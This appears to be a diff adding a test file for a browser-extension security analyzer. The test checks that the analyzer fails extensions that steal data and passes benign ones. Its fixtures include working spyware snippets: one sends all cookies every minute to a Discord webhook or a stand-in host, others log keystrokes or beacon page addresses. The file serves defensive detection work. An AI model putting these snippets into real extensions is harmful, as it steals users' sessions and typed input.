@@ -1,0 +1,121 @@
+import { describe, expect, it } from 'vitest';
+import { SEVERITIES, type Severity } from '../../model/finding.ts';
+import { analyze } from '../analyze.ts';
+import { memoryTree } from '../sources/memory.ts';
+import { ASKED, BY_ITSELF } from './sendingVerdict.ts';
+
+const worse = (a: Severity | undefined, b: Severity | undefined): boolean =>
+  (a === undefined ? 9 : SEVERITIES.indexOf(a)) <= (b === undefined ? 9 : SEVERITIES.indexOf(b));
+
+interface Parts {
+  readonly content?: string;
+  readonly background?: string;
+  readonly popup?: string;
+  readonly manifest?: object;
+}
+
+async function graded({ content, background, popup, manifest }: Parts): Promise<string> {
+  const files: Record<string, string> = {
+    'manifest.json': JSON.stringify({
+      manifest_version: 3,
+      name: 'Notes',
+      version: '1.0',
+      permissions: ['cookies', 'tabs', 'storage', 'scripting'],
+      host_permissions: ['<all_urls>'],
+      ...(content === undefined ? {} : { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] }),
+      ...(background === undefined ? {} : { background: { service_worker: 'background.js' } }),
+      ...(popup === undefined ? {} : { action: { default_popup: 'popup.html' } }),
+      ...manifest,
+    }),
+    ...(content === undefined ? {} : { 'content.js': content }),
+    ...(background === undefined ? {} : { 'background.js': background }),
+    ...(popup === undefined
+      ? {}
+      : { 'popup.html': '<button id="b"></button><script src="popup.js"></script>', 'popup.js': popup }),
+  };
+  const { score } = await analyze(memoryTree(files), { kind: 'extension' });
+  return score.grade;
+}
+
+const ALL_COOKIES = (to: string): string =>
+  `setInterval(() => chrome.cookies.getAll({}, (all) => fetch(${to}, { method: 'POST', body: JSON.stringify(all) })), 60000);`;
+
+describe('the table of sendings', () => {
+  it('never weighs an asked sending more than one that happens by itself', () => {
+    for (const [data, row] of Object.entries(BY_ITSELF))
+      for (const [to, severity] of Object.entries(row))
+        expect(worse(severity, ASKED[data as keyof typeof ASKED][to as keyof typeof row]), `${data} to ${to}`).toBe(
+          true,
+        );
+  });
+
+  it('never weighs a named maker more than a stranger, nor a stranger more than a hidden place', () => {
+    for (const row of [...Object.values(BY_ITSELF), ...Object.values(ASKED)]) {
+      expect(worse(row.hidden, row.stranger)).toBe(true);
+      expect(worse(row.stranger, row.maker)).toBe(true);
+      expect(worse(row.maker, row.person)).toBe(true);
+    }
+  });
+});
+
+describe('the grade of what sends data', () => {
+  it.each([
+    ['all cookies to a chat', { background: ALL_COOKIES("'https://discord.com/api/webhooks/1/x'") }, ['F']],
+    ['all cookies to a stranger', { background: ALL_COOKIES("'https://collect.example/c'") }, ['F']],
+    ['all cookies to an address made at run time', { background: ALL_COOKIES('where') }, ['F']],
+    ['all cookies to a program on this computer', { background: ALL_COOKIES("'http://localhost:3000/c'") }, ['F']],
+    [
+      'keys to the background, kept there',
+      {
+        content: 'window.onkeydown = (event) => chrome.runtime.sendMessage({ key: event.key });',
+        background:
+          'const all = []; chrome.runtime.onMessage.addListener(({ key }) => { all.push(key); chrome.storage.local.set({ all }); });',
+      },
+      ['D', 'F'],
+    ],
+    [
+      'keys by a script that is put into pages',
+      {
+        background:
+          "chrome.tabs.onUpdated.addListener((id) => chrome.scripting.executeScript({ target: { tabId: id }, files: ['content.js'] }));",
+        content: "document.addEventListener('keypress', (e) => { chrome.storage.local.set({ last: e.key }); });",
+        manifest: { content_scripts: undefined },
+      },
+      ['D', 'F'],
+    ],
+    [
+      'every address to a stranger',
+      { content: "navigator.sendBeacon('https://collect.example/v', location.href);" },
+      ['F'],
+    ],
+    [
+      'the cookie of its own site, to that site',
+      {
+        background:
+          "chrome.cookies.get({ url: 'https://notes.example', name: 'id' }).then((c) => fetch('https://notes.example/me', { headers: { 'X-Id': c.value } }));",
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'the text of a page, by a click, to its maker',
+      {
+        popup:
+          "document.querySelector('#b').addEventListener('click', async () => { const [tab] = await chrome.tabs.query({ active: true }); fetch('https://api.notes.example/add', { method: 'POST', body: tab.url }); });",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'addresses to a server that the person set',
+      {
+        background:
+          "chrome.tabs.onUpdated.addListener(async (id, info, tab) => { const { server } = await chrome.storage.local.get('server'); fetch(server, { method: 'POST', body: tab.url }); });",
+        popup:
+          "document.querySelector('#b').onclick = () => chrome.storage.local.set({ server: document.querySelector('#b').value });",
+      },
+      ['A+', 'A'],
+    ],
+  ] as const)('%s', async (_, parts, grades) => {
+    expect(grades).toContain(await graded(parts));
+  });
+});
